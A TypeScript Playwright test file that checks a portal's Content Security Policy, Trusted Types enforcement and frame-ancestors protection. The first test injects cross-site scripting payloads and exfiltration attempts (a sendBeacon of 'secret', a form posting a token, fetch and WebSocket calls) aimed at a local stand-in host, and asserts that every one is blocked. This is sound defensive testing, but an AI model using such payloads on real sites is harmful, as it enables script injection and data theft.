import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { signIn } from '#e2e/people.ts';
import { watchPolicy } from '#e2e/policy.ts';

type Factory = { readonly trustedTypes: { createPolicy: (name: string, rules: object) => unknown } };

/** A host of somebody else, which notes what it is asked for. */
async function startStranger() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { asked, url: `http://127.0.0.1:${port}`, close: () => server.close() };
}

/** Runs code as the page itself would: what a debugger evaluates is free of the policy, what it leaves for later is not. */
const later = (page: Page, code: (stranger: string) => unknown, stranger = ''): Promise<string> =>
  page.evaluate(
    async ({ source, given }) => {
      // Compiled while the debugger may, called when it may not any more.
      const run = (0, eval)(`(${source})`) as (stranger: string) => unknown;
      return new Promise<string>((resolve) => {
        setTimeout(() => {
          Promise.resolve()
            .then(() => run(given))
            .then(
              (result) => resolve(`done: ${String(result)}`),
              (error: Error) => resolve(error.name),
            );
        }, 0);
      });
    },
    { source: code.toString(), given: stranger },
  );

test('what an intruder writes into the page neither runs nor reaches a host of theirs [P15.31]', async ({ page }) => {
  const stranger = await startStranger();
  const watched = await watchPolicy(page);
  await signIn(page, 'workshop');
  const injected = `
    <script>window.intruded = 'script'</script>
    <script src="${stranger.url}/script.js"></script>
    <img src="${stranger.url}/picture.png" onerror="window.intruded = 'handler'" alt="">
    <iframe srcdoc="<script>parent.intruded = 'frame'</script>"></iframe>
    <object data="${stranger.url}/object"></object>
    <style>body { background: url(${stranger.url}/style) }</style>
    <p style="background: url(${stranger.url}/attribute)">text</p>
    <form action="${stranger.url}/form" id="stolen"><input name="token" value="secret"></form>
    <base href="${stranger.url}/">`;
  await page.route('**/account/edit', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('<body>', `<body>${injected}`) });
  });
  await page.goto('/account/edit');
  // The portal itself does not suffer from it.
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  expect(await later(page, () => (0, eval)('window.intruded = "eval"'))).toBe('EvalError');
  expect(await later(page, () => new Function('window.intruded = "function"')() as unknown)).toBe('EvalError');
  expect(
    await later(page, () => {
      document.body.insertAdjacentHTML('beforeend', '<b>html</b>');
    }),
  ).toBe('TypeError');
  expect(
    await later(
      page,
      (host) => {
        document.head.append(Object.assign(document.createElement('script'), { src: `${host}/late.js` }));
      },
      stranger.url,
    ),
  ).toBe('TypeError');
  expect(await later(page, (host) => new Worker(`${host}/worker.js`), stranger.url)).toBe('TypeError');
  expect(await later(page, () => (window as unknown as Factory).trustedTypes.createPolicy('theirs', {}))).toBe(
    'TypeError',
  );
  expect(await later(page, (host) => fetch(`${host}/fetch`), stranger.url)).toBe('TypeError');
  await later(
    page,
    (host) => {
      new WebSocket(host.replace('http', 'ws'));
      navigator.sendBeacon(`${host}/beacon`, 'secret');
      document.querySelector<HTMLFormElement>('#stolen')?.submit();
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${host}/frame` }));
    },
    stranger.url,
  );

  const directives = [
    'script-src-elem',
    'script-src-attr',
    'style-src-elem',
    'style-src-attr',
    'img-src',
    'frame-src',
    'object-src',
    'connect-src',
    'base-uri',
    'form-action',
    'require-trusted-types-for',
    'trusted-types',
  ];
  const unheard = async () => {
    const heard = new Set((await watched.violations()).map(({ directive }) => directive));
    return directives.filter((one) => !heard.has(one));
  };
  await expect.poll(unheard).toEqual([]);
  expect(await page.evaluate(() => (window as { intruded?: string }).intruded)).toBeUndefined();
  const drawn = () => [...document.querySelectorAll('body, p')].map((part) => getComputedStyle(part).backgroundImage);
  expect((await page.evaluate(drawn)).filter((image) => image.includes(stranger.url))).toEqual([]);
  expect(stranger.asked).toEqual([]);
  stranger.close();
});

test('the portal stands in no frame of another page [P15.31]', async ({ page, baseURL }) => {
  const frames: string[] = [];
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html').end(`<iframe src="${baseURL}/signin"></iframe>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  page.on('console', (message) => frames.push(message.text()));
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  await expect.poll(() => frames.join('\n')).toMatch(/frame-ancestors/);
  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Sign in' })).toHaveCount(0);
  server.close();
});
